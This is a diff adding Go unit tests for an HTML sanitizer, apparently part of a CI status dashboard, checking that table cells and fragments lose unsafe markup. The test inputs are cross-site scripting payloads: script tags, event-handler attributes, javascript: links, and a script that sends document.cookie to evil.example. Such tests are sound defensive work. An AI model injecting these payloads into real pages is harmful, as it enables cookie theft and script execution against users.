@@ -0,0 +1,118 @@
+package sanitize
+
+import (
+	"html/template"
+	"reflect"
+	"testing"
+)
+
+func TestHTML(t *testing.T) {
+	for _, spec := range []struct {
+		give string
+		want template.HTML
+	}{
+		{
+			give: "plain text",
+			want: "plain text",
+		},
+		{
+			give: `<span class="label label-success">passed</span>`,
+			want: `<span class="label label-success">passed</span>`,
+		},
+		{
+			give: `before<script>alert("x")</script>after`,
+			want: "beforeafter",
+		},
+		{
+			give: `<SCRIPT src="http://evil.example/x.js"></SCRIPT>ok`,
+			want: "ok",
+		},
+		{
+			give: `<style>body { display: none }</style><b>bold</b>`,
+			want: "<b>bold</b>",
+		},
+		{
+			give: `<img src="https://ci.example/badge.svg" onerror="alert(1)">`,
+			want: `<img src="https://ci.example/badge.svg">`,
+		},
+		{
+			give: `<a href="javascript:alert(1)">click</a>`,
+			want: "<a>click</a>",
+		},
+		{
+			give: `<a href="https://ci.example/build/1" target="_blank">#1</a>`,
+			want: `<a href="https://ci.example/build/1" target="_blank">#1</a>`,
+		},
+		{
+			give: `<form action="/deploy_handler"><input name="project"></form>text`,
+			want: "text",
+		},
+		{
+			give: `a < b & "c"`,
+			want: "a &lt; b &amp; &#34;c&#34;",
+		},
+		{
+			give: `<br/>`,
+			want: "<br />",
+		},
+	} {
+		if got := HTML(spec.give); got != spec.want {
+			t.Errorf("HTML(%q) = %q; want %q", spec.give, got, spec.want)
+		}
+	}
+}
+
+func TestCell(t *testing.T) {
+	for _, spec := range []struct {
+		give        string
+		want        template.HTML
+		wantRemoved []string
+	}{
+		{
+			give: `<td class="status"><span class="label label-success">passed</span></td>`,
+			want: `<td class="status"><span class="label label-success">passed</span></td>`,
+		},
+		{
+			give: `<th colspan="2">CI</th>`,
+			want: `<th colspan="2">CI</th>`,
+		},
+		{
+			give:        `<td onmouseover="steal(document.cookie)">x</td>`,
+			want:        `<td>x</td>`,
+			wantRemoved: []string{"td onmouseover"},
+		},
+		{
+			give:        `<td><script>fetch("https://evil.example/?" + document.cookie)</script></td>`,
+			want:        `<td></td>`,
+			wantRemoved: []string{"<script>"},
+		},
+		{
+			give:        `<td><a href="javascript:alert(1)" onclick="alert(2)">build</a></td>`,
+			want:        `<td><a>build</a></td>`,
+			wantRemoved: []string{"a href", "a onclick"},
+		},
+		{
+			give:        `<td style="background: url(javascript:alert(1))"><form action="/deploy_handler"></form></td>`,
+			want:        `<td></td>`,
+			wantRemoved: []string{"td style", "<form>"},
+		},
+		{
+			give:        `<td><svg onload="alert(1)"></svg></td>`,
+			want:        `<td></td>`,
+			wantRemoved: []string{"<svg>"},
+		},
+	} {
+		got, removed := Cell(spec.give)
+		if got != spec.want {
+			t.Errorf("Cell(%q) = %q; want %q", spec.give, got, spec.want)
+		}
+		if !reflect.DeepEqual(removed, spec.wantRemoved) {
+			t.Errorf("Cell(%q) removed %q; want %q", spec.give, removed, spec.wantRemoved)
+		}
+	}
+
+	// cells are not allowed in other fragments
+	if got, want := HTML(`<td>x</td>`), template.HTML("x"); got != want {
+		t.Errorf("HTML(%q) = %q; want %q", `<td>x</td>`, got, want)
+	}
+}